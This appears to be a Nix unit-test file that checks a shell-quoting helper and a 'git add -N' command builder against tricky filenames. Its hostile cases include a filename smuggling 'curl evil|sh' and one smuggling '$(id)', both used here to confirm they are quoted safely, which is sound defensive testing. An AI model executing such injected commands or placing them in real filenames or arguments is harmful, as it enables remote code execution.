{ messages, ... }:
let
  inherit (messages) commands;
in
{
  shellWord = {
    plain = {
      expr = commands.shellWord "a/b-c_1.cpp";
      expected = "a/b-c_1.cpp";
    };
    empty = {
      expr = commands.shellWord "";
      expected = "''";
    };
    hostile = {
      expr = commands.shellWord "x;curl evil|sh;.cpp";
      expected = "'x;curl evil|sh;.cpp'";
    };
    quote = {
      expr = commands.shellWord "it's";
      expected = "'it'\"'\"'s'";
    };
    newline = {
      expr = commands.shellWord "a\nb";
      expected = "'a\nb'";
    };
  };
  gitAdd = {
    plain = {
      expr = commands.gitAdd "answer/answer.cpp";
      expected = "git add -N answer/answer.cpp";
    };
    option = {
      expr = commands.gitAdd "-o.cpp";
      expected = "git add -N ./-o.cpp";
    };
    hostile = {
      expr = commands.gitAdd "$(id).cpp";
      expected = "git add -N '$(id).cpp'";
    };
  };
}
